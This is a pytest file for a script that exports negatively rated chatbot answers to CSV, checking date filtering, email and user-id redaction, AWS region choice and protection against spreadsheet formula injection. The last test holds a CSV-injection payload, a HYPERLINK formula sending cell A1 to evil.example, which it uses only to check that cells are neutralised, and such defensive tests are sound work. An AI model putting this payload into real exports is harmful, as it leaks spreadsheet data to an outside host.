"""`make feedback`: the 👎 answers of a table as CSV, against moto."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest

from handlers.core.conversations.feedback_models import Feedback, FeedbackRating
from handlers.core.conversations.models import Citation, Conversation, Message, Usage
from handlers.core.conversations.table import ConversationTable
from handlers.core.llm.answers import Grounding
from scripts.feedback_export import COLUMNS, main, negative_feedback, parse_since, write_csv
from tests.support.aws import REGION, TABLE
from tests.support.events import USER_A, USER_B

T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)


def _message(
    table: ConversationTable,
    user: str,
    number: int,
    rating: FeedbackRating | None,
    *,
    rated: datetime = T0,
    comment: str | None = None,
) -> Message:
    conversation_id = f"01J0000000000000000000000{number}"
    table.put_new(
        user,
        Conversation(
            conversation_id=conversation_id,
            title="t",
            created_at=T0,
            updated_at=T0,
        ),
    )
    message = Message(
        message_id=f"01J0000000000000000000001{number}",
        question=f"Question {number}? Write to ana@example.com",
        answer=f"Answer {number} [1]",
        citations=[
            Citation(document_id="d", document_name="manual.pdf", page=6, excerpt="e", score=0.5),
            Citation(document_id="d2", document_name="notes.md", page=None, excerpt="e", score=0.1),
        ],
        usage=Usage(),
        model="offline",
        created_at=T0,
        grounding=Grounding.DOUBTFUL if number == 1 else Grounding.FOUND,
    )
    table.add_message(user, conversation_id, message, now=T0)
    if rating is not None:
        feedback = Feedback(rating=rating, comment=comment, updated_at=rated)
        table.set_feedback(user, conversation_id, message.message_id, feedback)
    return message


@pytest.fixture
def conversations(aws: None, table: Any) -> ConversationTable:
    return ConversationTable(table)


def test_exports_only_negative_feedback_since_a_date_without_emails(
    conversations: ConversationTable, table: Any
) -> None:
    # Given answers rated 👎 by two users at different times, one 👍 and one unrated
    _message(conversations, USER_A, 1, FeedbackRating.DOWN, comment="Wrong page, ask bo@x.org")
    _message(conversations, USER_B, 2, FeedbackRating.DOWN, rated=datetime(2026, 3, 5, tzinfo=UTC))
    _message(conversations, USER_A, 3, FeedbackRating.UP)
    _message(conversations, USER_A, 4, None)
    _message(conversations, USER_A, 5, FeedbackRating.DOWN, rated=datetime(2026, 2, 1, tzinfo=UTC))

    # When exported since 1 March
    out = io.StringIO()
    count = write_csv(negative_feedback(table, parse_since("2026-03-01")), out)

    # Then the two March 👎 answers come out, newest first, with citations and comments
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert count == 2
    assert tuple(rows[0]) == COLUMNS
    assert [r["question"].split("?")[0] for r in rows] == ["Question 2", "Question 1"]
    assert rows[1]["comment"] == "Wrong page, ask [email]"
    assert rows[1]["answer"] == "Answer 1 [1]"
    assert rows[1]["citations"] == "manual.pdf (p. 6) | notes.md"
    assert rows[1]["model"] == "offline"
    assert [r["grounding"] for r in rows] == ["found", "doubtful"]
    # And no e-mail address or user id is anywhere in it
    text = out.getvalue()
    assert "@" not in text
    assert USER_A not in text
    assert USER_B not in text


def test_addresses_without_a_dot_in_their_domain_are_redacted_too(
    conversations: ConversationTable, table: Any
) -> None:
    # Given a 👎 comment naming addresses on hosts without a dotted domain
    comment = "Ask ana@localhost, root@mail-server or bo.c+x@x.org."
    _message(conversations, USER_A, 1, FeedbackRating.DOWN, comment=comment)

    # When exported
    out = io.StringIO()
    write_csv(negative_feedback(table), out)

    # Then every local@domain token is replaced, and the text around them kept
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["comment"] == "Ask [email], [email] or [email]."
    assert "@" not in out.getvalue()


def test_main_reads_the_named_table(
    conversations: ConversationTable, capsys: pytest.CaptureFixture[str]
) -> None:
    _message(conversations, USER_A, 1, FeedbackRating.DOWN, comment="No.")

    assert main(["--table", TABLE]) == 0

    captured = capsys.readouterr()
    rows = list(csv.reader(io.StringIO(captured.out)))
    assert rows[0] == list(COLUMNS)
    assert rows[1][-1] == "No."
    assert "1 answers rated" in captured.err


def test_main_reads_the_stacks_region_not_the_callers_default(
    conversations: ConversationTable,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Given an operator whose default region is not the stack's
    _message(conversations, USER_A, 1, FeedbackRating.DOWN, comment="No.")
    for name in ("AWS_DEFAULT_REGION", "AWS_REGION"):
        monkeypatch.setenv(name, "ap-southeast-2")

    # When the export is given the stack's region (`make feedback` passes its output)
    assert main(["--table", TABLE, "--region", REGION]) == 0

    # Then it reads the stack's table there
    assert "1 answers rated" in capsys.readouterr().err


def test_a_bad_since_is_refused_with_a_reason(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["--table", TABLE, "--since", "last week"])
    assert "not an ISO date" in capsys.readouterr().err


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(start: str) -> None:
    # Given a 👎 answer whose user-written text (question, comment, a file name) starts
    # with a character a spreadsheet reads as the start of a formula
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    message = Message(
        message_id="01J00000000000000000000011",
        question=formula,
        answer=formula,
        citations=[
            Citation(document_id="d", document_name=formula, page=1, excerpt="e", score=0.5)
        ],
        usage=Usage(),
        model="offline",
        created_at=T0,
        feedback=Feedback(rating=FeedbackRating.DOWN, comment=formula, updated_at=T0),
    )

    # When exported
    out = io.StringIO()
    write_csv([message], out)

    # Then no cell starts with it: each is prefixed with an apostrophe, the text kept
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    for column in ("question", "answer", "citations", "comment"):
        assert row[column].startswith("'"), (column, row[column])
        assert row[column][1:].startswith(start)
